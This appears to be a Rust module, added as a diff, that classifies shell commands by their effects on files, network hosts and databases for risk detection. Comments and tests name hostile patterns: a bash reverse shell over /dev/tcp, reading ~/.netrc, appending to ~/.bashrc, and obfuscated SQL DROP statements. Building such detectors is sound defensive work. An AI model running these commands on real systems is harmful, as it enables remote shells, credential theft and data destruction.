@@ -1,0 +1,843 @@
+//! From one simple command to its effects: redirections, then what the program table says
+//! the program does with its arguments, then the few programs whose arguments need more
+//! than a table (find, mv, ln, rsync's remote paths, database clients).
+
+use super::{Analyzer, Arg, Command, RedirectKind, Written, path, printed_text};
+use crate::normalize::effects::{DbTarget, Effect, Kind, Source, Sql, SqlKind, Target};
+use crate::normalize::programs::{
+    EffectSpec, ParsedArgs, ProgramSpec, SqlSpec, Writes, has_sequence, wildcard,
+};
+
+/// Devices that are not files: writing or reading them touches nothing on disk.
+const NOT_FILES: &[&str] = &[
+    "/dev/null",
+    "/dev/zero",
+    "/dev/stdout",
+    "/dev/stderr",
+    "/dev/stdin",
+    "/dev/tty",
+    "/dev/random",
+    "/dev/urandom",
+    "/dev/full",
+];
+
+impl Analyzer {
+    pub(super) fn push_effect(&mut self, index: usize, mut effect: Effect) {
+        effect.command = Some(index);
+        if self.commands.get(index).is_some_and(|c| c.speculative) {
+            effect.certain = false;
+        }
+        if self.effects.len() < super::MAX_COMMANDS && !self.effects.contains(&effect) {
+            self.effects.push(effect);
+        }
+    }
+
+    /// Record the effects of the command at `index`.
+    pub(super) fn command_effects(&mut self, index: usize) {
+        let cmd = self.commands[index].clone();
+        self.redirect_effects(index, &cmd);
+        if cmd.program.is_empty() {
+            return;
+        }
+        let table = self.programs.clone();
+        let cmd = Command {
+            args: run_time_args(&cmd),
+            ..cmd
+        };
+        let parsed = table.parse(&cmd.program, &cmd.args);
+        let spec = table.spec_of(&parsed);
+        let defaults;
+        let specs: &[EffectSpec] = match &spec.effects {
+            Some(list) => list,
+            None => {
+                defaults = default_effects(spec.writes);
+                &defaults
+            }
+        };
+        let base = spec
+            .chdir_options
+            .iter()
+            .find_map(|o| parsed.values_of(std::slice::from_ref(o)).next())
+            .and_then(|dir| self.resolve_path(dir, cmd.cwd.as_deref()))
+            .or_else(|| cmd.cwd.clone());
+        for e in specs {
+            self.table_effect(index, &cmd, &parsed, spec, e, base.as_deref());
+        }
+        match cmd.program.as_str() {
+            "find" => self.find_effects(index, &cmd, &parsed),
+            "mv" => self.move_effects(index, &cmd, &parsed),
+            "ln" => self.link(&cmd, &parsed),
+            "git" if parsed.subcommand() == Some("clone") => {
+                self.clone_effects(index, &cmd, &parsed)
+            }
+            "docker" | "podman" if matches!(parsed.subcommand(), Some("run" | "create")) => {
+                self.mount_effects(index, &cmd, &parsed)
+            }
+            _ => {}
+        }
+        if let Some(sql) = &spec.sql {
+            self.sql_effect(index, &cmd, &parsed, sql);
+        }
+    }
+
+    /// `<`, `>`, `>>`, and `/dev/tcp/HOST/PORT`: what the shell does for the command.
+    fn redirect_effects(&mut self, index: usize, cmd: &Command) {
+        let interactive = super::wrappers::SHELLS.contains(&cmd.program.as_str())
+            || super::wrappers::is_interpreter(&cmd.program)
+            || cmd.program == "exec";
+        for r in &cmd.redirects {
+            let via = match r.kind {
+                RedirectKind::Read => "< redirect",
+                RedirectKind::Write => "> redirect",
+                RedirectKind::Append => ">> redirect",
+            };
+            if let Some(host) = dev_tcp_host(&r.target.text) {
+                let mut net = Effect::new(Kind::Net, Target::Name(host.clone()), via);
+                net.send = r.kind != RedirectKind::Read;
+                self.push_effect(index, net);
+                if interactive {
+                    // `bash -i >& /dev/tcp/h/p 0>&1`: a shell wired to a socket.
+                    let exec = Effect::new(Kind::Exec, Target::Name(host), "shell on a socket")
+                        .from_source(Source::Network);
+                    self.push_effect(index, exec);
+                }
+                continue;
+            }
+            let Some(target) = self.target(&r.target, cmd.cwd.as_deref()) else {
+                continue;
+            };
+            match r.kind {
+                RedirectKind::Read => self.push_effect(index, Effect::new(Kind::Read, target, via)),
+                RedirectKind::Write | RedirectKind::Append => {
+                    if let Target::Path(p) = &target {
+                        let content = match printed_text(cmd) {
+                            Some(text) => Some(Written::Text(text)),
+                            None => self
+                                .classify(std::slice::from_ref(&cmd.program))
+                                .or(cmd.fed_source.filter(|_| passes_input(&cmd.program)))
+                                .map(Written::From),
+                        };
+                        if let Some(content) = content {
+                            if let Written::Text(text) = &content {
+                                self.plant(p, text);
+                            }
+                            self.record_written(p, content);
+                        }
+                    }
+                    let effect = Effect::new(Kind::Write, target, via)
+                        .truncating(r.kind == RedirectKind::Write);
+                    self.push_effect(index, effect);
+                }
+            }
+        }
+    }
+
+    fn record_written(&mut self, path: &str, content: Written) {
+        if self.written.len() < 256 {
+            // `>>` adds to what an earlier write put there.
+            let merged = match (self.written.remove(path), content) {
+                (Some(Written::Text(old)), Written::Text(new)) => Written::Text(old + "\n" + &new),
+                (_, c) => c,
+            };
+            self.written.insert(path.to_string(), merged);
+        }
+    }
+
+    fn table_effect(
+        &mut self,
+        index: usize,
+        cmd: &Command,
+        parsed: &ParsedArgs,
+        spec: &ProgramSpec,
+        e: &EffectSpec,
+        base: Option<&str>,
+    ) {
+        let Some(kind) = e.kind else { return };
+        if (!e.when.is_empty() && !parsed.has_any(&e.when)) || parsed.has_any(&e.unless) {
+            return;
+        }
+        if !e.when_operand.is_empty()
+            && !parsed
+                .operands
+                .iter()
+                .any(|o| e.when_operand.iter().any(|p| wildcard(p, &o.text)))
+        {
+            return;
+        }
+        let via = if cmd.program.is_empty() {
+            "command".to_string()
+        } else {
+            spec_label(cmd, parsed)
+        };
+        let recursive = e.recursive || parsed.has_any(&e.recursive_flags);
+        // Effects on a named thing (a registry, a credential store, a tool's settings).
+        if matches!(kind, Kind::Publish | Kind::Credential | Kind::Config) {
+            let name = e.name.clone().unwrap_or_else(|| cmd.program.clone());
+            let effect = Effect::new(kind, Target::Name(name), via);
+            self.push_effect(index, effect);
+            return;
+        }
+        if kind == Kind::Exec
+            && e.args == crate::normalize::programs::ArgSel::None
+            && e.options.is_empty()
+        {
+            let mut effect = Effect::new(kind, Target::None, via);
+            effect.source = e.source;
+            self.push_effect(index, effect);
+            return;
+        }
+        let mut words: Vec<Arg> = e.args.pick(&parsed.operands).to_vec();
+        words.extend(parsed.values_of(&e.options).cloned());
+        for word in words {
+            let word = match &e.prefix {
+                Some(prefix) => match strip_prefix(&word, prefix) {
+                    Some(w) => w,
+                    None => continue,
+                },
+                None => word,
+            };
+            if word.text.is_empty() || word.text == "-" {
+                continue;
+            }
+            // rm refuses `.` and `..` (`rm -rf .` deletes nothing: "refusing to remove").
+            if kind == Kind::Delete
+                && matches!(cmd.program.as_str(), "rm" | "rmdir" | "unlink")
+                && matches!(
+                    word.text.trim_end_matches('/').rsplit('/').next(),
+                    Some("." | "..")
+                )
+                && !word.dynamic
+            {
+                continue;
+            }
+            if spec.remote_paths
+                && let Some(host) = remote_host(&word.text)
+            {
+                let mut net = Effect::new(Kind::Net, Target::Name(host), via.clone());
+                net.send = matches!(kind, Kind::Write | Kind::Delete);
+                if kind != Kind::Delete {
+                    self.push_effect(index, net);
+                }
+                continue;
+            }
+            if kind == Kind::Net {
+                if let Some(host) = url_host(&word.text) {
+                    let mut net = Effect::new(Kind::Net, Target::Name(host), via.clone());
+                    net.send = e.send;
+                    self.push_effect(index, net);
+                }
+                continue;
+            }
+            if kind == Kind::Exec {
+                let mut effect = Effect::new(kind, Target::Name(word.text.clone()), via.clone());
+                effect.source = e.source;
+                self.push_effect(index, effect);
+                continue;
+            }
+            let word = if e.basename {
+                match url_basename(&word.text) {
+                    Some(b) => Arg::literal(b),
+                    None => continue,
+                }
+            } else {
+                word
+            };
+            let cwd = if e.basename { cmd.cwd.as_deref() } else { base };
+            let Some(target) = self.target(&word, cwd) else {
+                continue;
+            };
+            if kind == Kind::Write
+                && let (Target::Path(p), Some(source)) = (&target, e.source)
+            {
+                self.record_written(p, Written::From(source));
+            }
+            if kind == Kind::Write
+                && let Target::Path(p) = &target
+                && e.source.is_none()
+                && !cmd.stdin_text.is_empty()
+                && passes_input(&cmd.program)
+            {
+                // `tee -a ~/.bashrc` with known text on its input.
+                let text = cmd.stdin_text.clone();
+                self.plant(p, &text);
+                self.record_written(p, Written::Text(text));
+            }
+            // `rm -f dir/**` (find's `{}` or globstar) deletes everything under dir.
+            let below = matches!(&target, Target::Glob(g) if g.contains("/**"));
+            let effect = Effect::new(kind, target, via.clone())
+                .recursive(recursive || (below && kind == Kind::Delete))
+                .truncating(e.truncate);
+            self.push_effect(index, effect);
+        }
+    }
+
+    /// `find START... -delete`: a recursive delete of each starting point.
+    fn find_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
+        if !parsed.has("-delete") {
+            return;
+        }
+        for start in super::find_targets(cmd) {
+            if let Some(target) = self.target(&start, cmd.cwd.as_deref()) {
+                self.push_effect(
+                    index,
+                    Effect::new(Kind::Delete, target, "find -delete").recursive(true),
+                );
+            }
+        }
+    }
+
+    /// `mv SRC... DEST`: each source moves away; to /dev/null it is gone.
+    fn move_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
+        let target_dir = parsed
+            .values_of(&["-t".into(), "--target-directory".into()])
+            .next()
+            .cloned();
+        let (sources, dest): (&[Arg], Option<Arg>) = match &target_dir {
+            Some(d) => (&parsed.operands[..], Some(d.clone())),
+            None if parsed.operands.len() >= 2 => (
+                &parsed.operands[..parsed.operands.len() - 1],
+                parsed.operands.last().cloned(),
+            ),
+            None => return,
+        };
+        let dest_target = dest
+            .as_ref()
+            .and_then(|d| self.target(d, cmd.cwd.as_deref()));
+        for src in sources {
+            let Some(target) = self.target(src, cmd.cwd.as_deref()) else {
+                continue;
+            };
+            let effect = if dest_target == Some(Target::Path("/dev/null".into())) {
+                Effect::new(Kind::Delete, target, "mv to /dev/null").recursive(true)
+            } else {
+                let mut m = Effect::new(Kind::Move, target, "mv").recursive(true);
+                m.to = dest_target.clone();
+                m
+            };
+            self.push_effect(index, effect);
+        }
+        if let Some(t) = dest_target
+            && t != Target::Path("/dev/null".into())
+        {
+            self.push_effect(index, Effect::new(Kind::Write, t, "mv").truncating(true));
+        }
+    }
+
+    /// `ln -s TARGET LINK`: later paths through LINK are paths to TARGET.
+    fn link(&mut self, cmd: &Command, parsed: &ParsedArgs) {
+        let [target, link] = parsed.operands.as_slice() else {
+            return;
+        };
+        let (Some(t), Some(l)) = (
+            self.resolve_path(target, cmd.cwd.as_deref()),
+            self.resolve_path(link, cmd.cwd.as_deref()),
+        ) else {
+            return;
+        };
+        if self.links.len() < 64 {
+            self.links.push((l, t));
+        }
+    }
+
+    /// `git clone URL [DIR]`: DIR holds code from the network.
+    fn clone_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
+        let Some(url) = parsed.operands.first() else {
+            return;
+        };
+        let dir = match parsed.operands.get(1) {
+            Some(d) => d.clone(),
+            None => match url_basename(&url.text) {
+                Some(b) => Arg::literal(b.trim_end_matches(".git")),
+                None => return,
+            },
+        };
+        if let Some(Target::Path(p)) = self.target(&dir, cmd.cwd.as_deref()) {
+            self.record_written(&p, Written::From(Source::Network));
+            let w = Effect::new(Kind::Write, Target::Path(p), "git clone").recursive(true);
+            self.push_effect(index, w);
+        }
+    }
+
+    /// `docker run -v HOST:CTR` and `--mount type=bind,source=HOST`: the container reads
+    /// and writes HOST and everything under it.
+    fn mount_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
+        let options = [
+            "-v".to_string(),
+            "--volume".to_string(),
+            "--mount".to_string(),
+        ];
+        let values: Vec<Arg> = parsed.values_of(&options).cloned().collect();
+        for value in values {
+            let host = if value.text.contains("source=") || value.text.contains("src=") {
+                value
+                    .text
+                    .split(',')
+                    .find_map(|p| p.strip_prefix("source=").or_else(|| p.strip_prefix("src=")))
+                    .map(str::to_string)
+            } else {
+                value.text.split(':').next().map(str::to_string)
+            };
+            let Some(host) = host.filter(|h| h.starts_with(['/', '~', '.']) || value.dynamic)
+            else {
+                continue;
+            };
+            let word = Arg {
+                text: host,
+                ..value.clone()
+            };
+            if let Some(target) = self.target(&word, cmd.cwd.as_deref()) {
+                let read =
+                    Effect::new(Kind::Read, target.clone(), "container mount").recursive(true);
+                self.push_effect(index, read);
+                let write = Effect::new(Kind::Write, target, "container mount").recursive(true);
+                self.push_effect(index, write);
+            }
+        }
+    }
+
+    /// Statements a database client sends, and to where.
+    fn sql_effect(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs, spec: &SqlSpec) {
+        let mut kinds: Vec<SqlKind> = Vec::new();
+        let add = |k: SqlKind, kinds: &mut Vec<SqlKind>| {
+            if !kinds.contains(&k) {
+                kinds.push(k);
+            }
+        };
+        let mut texts: Vec<String> = parsed
+            .values_of(&spec.statement_options)
+            .map(|a| a.text.clone())
+            .collect();
+        if spec.statement_operands {
+            texts.push(
+                parsed
+                    .operands
+                    .iter()
+                    .map(|a| a.text.as_str())
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            );
+        }
+        if spec.stdin {
+            if !cmd.stdin_text.is_empty() {
+                texts.push(cmd.stdin_text.clone());
+            } else if cmd.redirects.iter().any(|r| r.kind == RedirectKind::Read)
+                || (!cmd.fed_by.is_empty() && cmd.stdin_text.is_empty())
+            {
+                add(SqlKind::Unknown, &mut kinds);
+            }
+        }
+        if parsed.values_of(&spec.file_options).next().is_some() {
+            add(SqlKind::Unknown, &mut kinds);
+        }
+        for text in &texts {
+            for k in classify_sql(text) {
+                add(k, &mut kinds);
+            }
+        }
+        if let Some(k) = spec.implicit.as_deref().and_then(SqlKind::from_id) {
+            add(k, &mut kinds);
+        }
+        let words: Vec<&str> = cmd.args.iter().map(|a| a.text.as_str()).collect();
+        if spec.tasks.iter().any(|t| has_sequence(t, &words)) {
+            add(SqlKind::Reset, &mut kinds);
+        }
+        if kinds.is_empty() {
+            return;
+        }
+        let mut targets: Vec<DbTarget> = Vec::new();
+        for (name, value) in &parsed.values {
+            if spec.target_options.iter().any(|o| o == name) {
+                targets.push(DbTarget {
+                    text: value.text.clone(),
+                    dynamic: value.dynamic,
+                    from: name.clone(),
+                });
+            }
+        }
+        if spec.target_operands {
+            for op in &parsed.operands {
+                if spec.statement_operands {
+                    continue;
+                }
+                targets.push(DbTarget {
+                    text: op.text.clone(),
+                    dynamic: op.dynamic,
+                    from: "operand".into(),
+                });
+            }
+        }
+        // `rake db:drop RAILS_ENV=production`: environment given as an argument.
+        for arg in &cmd.args {
+            if let Some((name, value)) = arg.text.split_once('=')
+                && spec.target_env.iter().any(|e| e == name)
+            {
+                targets.push(DbTarget {
+                    text: value.to_string(),
+                    dynamic: arg.dynamic,
+                    from: name.to_string(),
+                });
+            }
+        }
+        for name in &spec.target_env {
+            let assigned = cmd.assignments.iter().rev().find(|(n, _)| n == name);
+            let (text, dynamic) = match assigned {
+                Some((_, v)) => (v.text.clone(), v.dynamic),
+                None => match self.vars.get(name) {
+                    Some(Some(v)) => (v.clone(), false),
+                    Some(None) => (format!("${name}"), true),
+                    None => continue,
+                },
+            };
+            targets.push(DbTarget {
+                text,
+                dynamic,
+                from: name.clone(),
+            });
+        }
+        for remote in &cmd.remote {
+            targets.push(DbTarget {
+                text: remote.clone(),
+                dynamic: false,
+                from: "runs on".into(),
+            });
+        }
+        let mut effect = Effect::new(Kind::Sql, Target::None, cmd.program.clone());
+        effect.sql = Some(Sql { kinds, targets });
+        self.push_effect(index, effect);
+    }
+
+    /// A word as an effect's target, resolved against `cwd` and links made earlier.
+    pub(super) fn target(&self, word: &Arg, cwd: Option<&str>) -> Option<Target> {
+        if word.dynamic {
+            return Some(Target::Unknown(word.text.clone()));
+        }
+        let resolved = self.resolve_path(word, cwd)?;
+        if NOT_FILES.contains(&resolved.as_str()) || resolved.starts_with("/dev/fd/") {
+            return None;
+        }
+        if word.glob {
+            return Some(Target::Glob(resolved));
+        }
+        Some(Target::Path(resolved))
+    }
+
+    pub(super) fn resolve_path(&self, word: &Arg, cwd: Option<&str>) -> Option<String> {
+        if word.dynamic {
+            return None;
+        }
+        let mut resolved = path::resolve(&word.text, cwd, self.home.as_deref())?;
+        for (link, target) in self.links.iter().rev() {
+            if resolved == *link {
+                resolved = target.clone();
+            } else if let Some(rest) = resolved.strip_prefix(&format!("{link}/")) {
+                resolved = format!("{target}/{rest}");
+            }
+        }
+        Some(resolved)
+    }
+}
+
+/// The arguments as they will be at run time, as far as known: `{}` (find -exec, xargs -I)
+/// stands for each path find starts from or a pipe prints; xargs appends what arrives on
+/// stdin (known text, or a run-time value).
+fn run_time_args(cmd: &Command) -> Vec<Arg> {
+    let mut out = Vec::with_capacity(cmd.args.len());
+    let mut replaced = false;
+    for arg in &cmd.args {
+        if arg.dynamic
+            && arg.text.contains("{}")
+            && (!cmd.placeholder.is_empty() || cmd.args_from_stdin)
+        {
+            replaced = true;
+            if cmd.placeholder.is_empty() {
+                out.push(arg.clone());
+            }
+            for p in &cmd.placeholder {
+                out.push(Arg {
+                    text: arg.text.replace("{}", &p.text),
+                    ..p.clone()
+                });
+            }
+        } else {
+            out.push(arg.clone());
+        }
+    }
+    if cmd.args_from_stdin && !replaced {
+        if cmd.placeholder.is_empty() {
+            out.push(Arg::dynamic("(arguments from stdin)"));
+        } else {
+            out.extend(cmd.placeholder.iter().cloned());
+        }
+    }
+    out
+}
+
+/// Without a list in the table, a program reads its operands (and writes the ones its
+/// `writes` names): `base64 ~/.netrc` reads the file whatever base64 is for.
+fn default_effects(writes: Writes) -> Vec<EffectSpec> {
+    use crate::normalize::programs::ArgSel;
+    let read = |args| EffectSpec {
+        kind: Some(Kind::Read),
+        args,
+        ..Default::default()
+    };
+    let write = |args| EffectSpec {
+        kind: Some(Kind::Write),
+        truncate: true,
+        args,
+        ..Default::default()
+    };
+    match writes {
+        Writes::None => vec![read(ArgSel::Operands)],
+        Writes::Last => vec![read(ArgSel::Init), write(ArgSel::Last)],
+        Writes::All => vec![write(ArgSel::Operands)],
+    }
+}
+
+/// Programs whose output is their input (so a file written from them holds what they read).
+fn passes_input(program: &str) -> bool {
+    matches!(program, "cat" | "tee" | "dd" | "sponge" | "pv" | "buffer")
+}
+
+fn spec_label(cmd: &Command, parsed: &ParsedArgs) -> String {
+    let mut label = cmd.program.clone();
+    for sub in parsed.subcommands.iter().take(2) {
+        label.push(' ');
+        label.push_str(sub);
+    }
+    label
+}
+
+/// `@file` or `name=@file` (curl -F): the word after the prefix.
+fn strip_prefix(word: &Arg, prefix: &str) -> Option<Arg> {
+    let text = word.text.as_str();
+    let rest = text.strip_prefix(prefix).or_else(|| {
+        text.find(&format!("={prefix}"))
+            .map(|at| &text[at + 1 + prefix.len()..])
+    })?;
+    // `-F f=@file;type=text/plain`
+    let rest = rest.split(';').next().unwrap_or(rest);
+    Some(Arg {
+        text: rest.to_string(),
+        ..word.clone()
+    })
+}
+
+/// `/dev/tcp/HOST/PORT` and `/dev/udp/...`: bash opens a socket.
+fn dev_tcp_host(target: &str) -> Option<String> {
+    let rest = target
+        .strip_prefix("/dev/tcp/")
+        .or_else(|| target.strip_prefix("/dev/udp/"))?;
+    Some(rest.split('/').next().unwrap_or(rest).to_ascii_lowercase())
+}
+
+/// `host:path` or `user@host:path` as scp and rsync read it (not `./a:b`, not a URL).
+fn remote_host(word: &str) -> Option<String> {
+    if let Some(rest) = word.strip_prefix("rsync://") {
+        return Some(host_of(rest));
+    }
+    let (before, _) = word.split_once(':')?;
+    if before.is_empty() || before.contains('/') || word.contains("://") {
+        return None;
+    }
+    Some(host_of(before))
+}
+
+fn host_of(authority: &str) -> String {
+    let no_path = authority.split('/').next().unwrap_or(authority);
+    let no_user = no_path.rsplit('@').next().unwrap_or(no_path);
+    let host = if no_user.starts_with('[') {
+        no_user
+            .split(']')
+            .next()
+            .unwrap_or(no_user)
+            .trim_start_matches('[')
+    } else {
+        no_user.split(':').next().unwrap_or(no_user)
+    };
+    host.to_ascii_lowercase()
+}
+
+/// The host of a URL or a bare `host[:port][/path]` word; None for words that are not one.
+pub(crate) fn url_host(word: &str) -> Option<String> {
+    let rest = match word.split_once("://") {
+        Some((scheme, rest))
+            if !scheme.is_empty()
+                && scheme
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)) =>
+        {
+            rest
+        }
+        Some(_) => return None,
+        None => {
+            // `curl example.com/x`, `nc host 80`: a word with a dot or a port, no slash first.
+            if word.starts_with(['/', '.', '-', '~'])
+                || !(word.contains('.') || word.contains(':') || word == "localhost")
+            {
+                return None;
+            }
+            word
+        }
+    };
+    let host = host_of(rest);
+    (!host.is_empty()).then_some(host)
+}
+
+/// The file name `wget URL` or `curl -O URL` saves to.
+fn url_basename(word: &str) -> Option<String> {
+    let (_, rest) = word.split_once("://")?;
+    let path = rest.split(['?', '#']).next().unwrap_or(rest);
+    let name = path
+        .rsplit('/')
+        .next()
+        .filter(|n| !n.is_empty() && path.contains('/'))?;
+    Some(name.to_string())
+}
+
+/// Statement classes in SQL (or Redis, or a Mongo shell script): comments removed,
+/// string concatenations joined (`'DR' || 'OP TABLE x'`), case ignored.
+pub fn classify_sql(text: &str) -> Vec<SqlKind> {
+    let normalized = normalize_sql(text);
+    let words: Vec<&str> = normalized
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
+        .filter(|w| !w.is_empty())
+        .collect();
+    let mut kinds = Vec::new();
+    let mut add = |k| {
+        if !kinds.contains(&k) {
+            kinds.push(k)
+        }
+    };
+    const DROPPABLE: &[&str] = &[
+        "table",
+        "database",
+        "schema",
+        "index",
+        "view",
+        "collection",
+        "user",
+        "role",
+        "keyspace",
+        "materialized",
+        "function",
+        "trigger",
+        "sequence",
+        "type",
+        "extension",
+        "owned",
+        "column",
+        "constraint",
+        "procedure",
+    ];
+    for (i, w) in words.iter().enumerate() {
+        let next = words.get(i + 1).copied().unwrap_or("");
+        match *w {
+            "drop" if DROPPABLE.contains(&next) || next == "if" => add(SqlKind::Drop),
+            "truncate" => add(SqlKind::Truncate),
+            "delete" if next == "from" || words.get(i + 2) == Some(&"from") => add(SqlKind::Delete),
+            "delete" if i == 0 => add(SqlKind::Delete),
+            "update" if words[i + 1..].iter().take(4).any(|x| *x == "set") => add(SqlKind::Update),
+            "alter" if ["table", "database", "schema", "user", "role"].contains(&next) => {
+                add(SqlKind::Alter)
+            }
+            "flushall" | "flushdb" => add(SqlKind::Flush),
+            "dropdatabase" => add(SqlKind::Drop),
+            "drop" => add(SqlKind::Drop),
+            _ => {}
+        }
+        // Mongo shell: db.users.drop(), deleteMany({}), remove({}), updateMany(...).
+        let method = w.rsplit('.').next().unwrap_or(w);
+        if w.contains('.') {
+            match method {
+                "drop" | "dropdatabase" => add(SqlKind::Drop),
+                "deletemany" | "deleteone" | "remove" | "findoneanddelete" => add(SqlKind::Delete),
+                "updatemany" | "updateone" | "replaceone" => add(SqlKind::Update),
+                _ => {}
+            }
+        }
+    }
+    kinds
+}
+
+fn normalize_sql(text: &str) -> String {
+    let lower = text.to_ascii_lowercase();
+    let mut out = String::with_capacity(lower.len());
+    let bytes = lower.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'/' && bytes.get(i + 1) == Some(&b'*') {
+            // `drop/**/table`: a comment separates words like a space.
+            match lower[i + 2..].find("*/") {
+                Some(end) => i += end + 4,
+                None => i = bytes.len(),
+            }
+            out.push(' ');
+            continue;
+        }
+        if bytes[i] == b'-' && bytes.get(i + 1) == Some(&b'-') {
+            while i < bytes.len() && bytes[i] != b'\n' {
+                i += 1;
+            }
+            continue;
+        }
+        out.push(bytes[i] as char);
+        i += 1;
+    }
+    // `'dr' || 'op table'` and `concat('dr', 'op ...')` build statements from pieces.
+    let mut joined = out.clone();
+    for sep in ["' || '", "'||'", "' ||'", "'|| '", "', '", "','"] {
+        joined = joined.replace(sep, "");
+    }
+    if joined != out {
+        out.push(' ');
+        out.push_str(&joined);
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn sql_is_classified_through_comments_and_concatenation() {
+        assert_eq!(classify_sql("DROP TABLE users"), [SqlKind::Drop]);
+        assert_eq!(classify_sql("drop/**/table users"), [SqlKind::Drop]);
+        assert!(
+            classify_sql("DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$")
+                .contains(&SqlKind::Drop)
+        );
+        assert_eq!(classify_sql("DELETE\n FROM users"), [SqlKind::Delete]);
+        assert_eq!(classify_sql("UPDATE users SET role = 1"), [SqlKind::Update]);
+        assert_eq!(classify_sql("db.users.deleteMany({})"), [SqlKind::Delete]);
+        assert!(classify_sql("SELECT * FROM users WHERE go_live_at < now()").is_empty());
+        assert!(classify_sql("select 'drop table' as x -- drop table y").contains(&SqlKind::Drop));
+    }
+
+    #[test]
+    fn hosts_come_from_urls_and_remote_paths() {
+        assert_eq!(
+            url_host("https://u:p@Get.Example.com:8443/x").as_deref(),
+            Some("get.example.com")
+        );
+        assert_eq!(
+            url_host("localhost:3000/health").as_deref(),
+            Some("localhost")
+        );
+        assert_eq!(url_host("./file"), None);
+        assert_eq!(
+            remote_host("dev@host.example:/tmp").as_deref(),
+            Some("host.example")
+        );
+        assert_eq!(remote_host("./a:b"), None);
+        assert_eq!(
+            url_basename("https://x.example/a/install.sh?v=1").as_deref(),
+            Some("install.sh")
+        );
+        assert_eq!(
+            dev_tcp_host("/dev/tcp/10.0.0.1/4444").as_deref(),
+            Some("10.0.0.1")
+        );
+    }
+}
